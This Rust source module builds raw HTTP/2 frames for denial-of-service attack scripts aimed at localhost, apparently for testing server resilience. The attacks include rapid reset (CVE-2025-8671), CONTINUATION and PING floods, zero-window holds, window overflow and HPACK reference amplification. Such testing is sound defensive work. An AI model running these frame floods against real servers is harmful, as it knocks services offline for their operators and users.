//! The frames of the attacks on HTTP/2.

use super::flood::Script;
use crate::http2::{END, END_HEADERS, block, encode, kind};

/// The setting SETTINGS_INITIAL_WINDOW_SIZE (RFC 9113 §6.5.2).
const INITIAL_WINDOW_SIZE: u16 = 4;
/// The maximum size of a window.
const WINDOW_MAX: u32 = 0x7fff_ffff;
/// The window of a new connection and of its streams.
const WINDOW: u32 = 65_535;
/// The error code CANCEL.
const CANCEL: u32 = 8;
/// The representation of a field by its index (RFC 7541 §6.1).
const INDEXED: u8 = 0x80;
/// The frames CONTINUATION of a header block. More bytes, and more frames, than a server should accept.
pub(super) const BLOCK: u32 = 1000;

/// A flood of frames on a connection at a time.
pub(super) const FLOOD: Script = Script {
    settings: &[],
    prologue: open_window,
    step: ping,
    batch: 100,
    is_request: false,
    by_byte: false,
    steps_held: u32::MAX,
};
/// A connection on which no response ends, because the windows are 0.
pub(super) const HELD: Script = Script { settings: &[(INITIAL_WINDOW_SIZE, 0)], prologue: Vec::new, ..FLOOD };
/// Invalid frames for requests: the server resets their streams (CVE-2025-8671). The responses wait for a window until then.
pub(super) const MADE_RESET: Script = Script { is_request: true, ..HELD };

/// Opens the window of the connection, so that responses to earlier steps do not block later ones.
fn open_window() -> Vec<u8> {
    window_update(0, WINDOW_MAX - WINDOW)
}

/// Requests more than the window of the connection: it remains 0, while the windows of later streams are open.
pub(super) fn use_up_window() -> Vec<u8> {
    request(1, "/large.bin", END)
}

/// A request whose body does not end, and whose response waits for a window.
pub(super) fn open_request() -> Vec<u8> {
    request(1, "/large.bin", 0)
}

pub(super) fn hundred_requests() -> Vec<u8> {
    (0..100).flat_map(large_request).collect()
}

pub(super) fn large_request(number: u32) -> Vec<u8> {
    request(stream(number), "/large.bin", END)
}

pub(super) fn rapid_reset(number: u32) -> Vec<u8> {
    [request(stream(number), "/", END), cancel(number)].concat()
}

pub(super) fn rapid_reset_of_large(number: u32) -> Vec<u8> {
    [large_request(number), cancel(number)].concat()
}

fn cancel(number: u32) -> Vec<u8> {
    encode(kind::RST_STREAM, 0, stream(number), &CANCEL.to_be_bytes())
}

pub(super) fn zero_update(number: u32) -> Vec<u8> {
    [large_request(number), window_update(stream(number), 0)].concat()
}

/// The first stream is that of [`use_up_window`].
pub(super) fn overflow(number: u32) -> Vec<u8> {
    let number = number + 1;
    [large_request(number), window_update(stream(number), WINDOW_MAX)].concat()
}

pub(super) fn data_after_end(number: u32) -> Vec<u8> {
    [large_request(number), encode(kind::DATA, 0, stream(number), b"x")].concat()
}

/// The payload of PRIORITY has five bytes.
pub(super) fn short_priority(number: u32) -> Vec<u8> {
    [large_request(number), encode(kind::PRIORITY, 0, stream(number), &[0; 4])].concat()
}

/// A frame of a header block with a field of 100 bytes.
pub(super) fn continuation(number: u32) -> Vec<u8> {
    in_block(number, &block(&[("x-a", &"x".repeat(94)[..])]))
}

pub(super) fn empty_continuation(number: u32) -> Vec<u8> {
    in_block(number, &[])
}

/// A frame CONTINUATION. A header block ends after [`BLOCK`] of them: a server that has not closed the connection until then responds.
fn in_block(number: u32, payload: &[u8]) -> Vec<u8> {
    let stream = stream(number / BLOCK);
    let head = if number.is_multiple_of(BLOCK) {
        encode(kind::HEADERS, END, stream, &head("/"))
    } else {
        Vec::new()
    };
    let flags = if number % BLOCK == BLOCK - 1 { END_HEADERS } else { 0 };
    [head, encode(kind::CONTINUATION, flags, stream, payload)].concat()
}

/// Changes the windows of streams each time.
pub(super) fn settings(number: u32) -> Vec<u8> {
    let value = WINDOW - number % 2;
    encode(kind::SETTINGS, 0, 0, &[&INITIAL_WINDOW_SIZE.to_be_bytes()[..], &value.to_be_bytes()].concat())
}

pub(super) fn ping(_: u32) -> Vec<u8> {
    encode(kind::PING, 0, 0, &[0; 8])
}

pub(super) fn empty_data(_: u32) -> Vec<u8> {
    encode(kind::DATA, 0, 1, &[])
}

/// A request with 4,000 references to the field that the first request has added to the dynamic table (RFC 7541 §6.1 and §6.2.1).
pub(super) fn references(number: u32) -> Vec<u8> {
    // A literal with incremental indexing: the name `x-a`, and a value of 127 + 0x21 + 30 * 128 = 4,000 bytes.
    let literal = [&[0x40, 3][..], b"x-a", &[0x7f, 0xa1, 30], &[b'x'; 4000]].concat();
    // The first index of the dynamic table is 62.
    let references = [INDEXED + 62; 4000];
    let first = if number == 0 { literal } else { Vec::new() };
    encode(kind::HEADERS, END | END_HEADERS, stream(number), &[&head("/")[..], &first, &references].concat())
}

fn stream(number: u32) -> u32 {
    2 * number + 1
}

fn window_update(stream: u32, bytes: u32) -> Vec<u8> {
    encode(kind::WINDOW_UPDATE, 0, stream, &bytes.to_be_bytes())
}

/// A GET. `end` is the flag END_STREAM, or 0.
fn request(stream: u32, path: &str, end: u8) -> Vec<u8> {
    encode(kind::HEADERS, end | END_HEADERS, stream, &head(path))
}

/// A header block that adds nothing to the dynamic table (RFC 7541 §6.1 and §6.2.2).
fn head(path: &str) -> Vec<u8> {
    let (get, http, authority, path_name) = (INDEXED + 2, INDEXED + 6, 1, 4);
    let path_length = u8::try_from(path.len()).expect("a short path");
    [&[get, http, authority, 9][..], b"localhost", &[path_name, path_length], path.as_bytes()].concat()
}
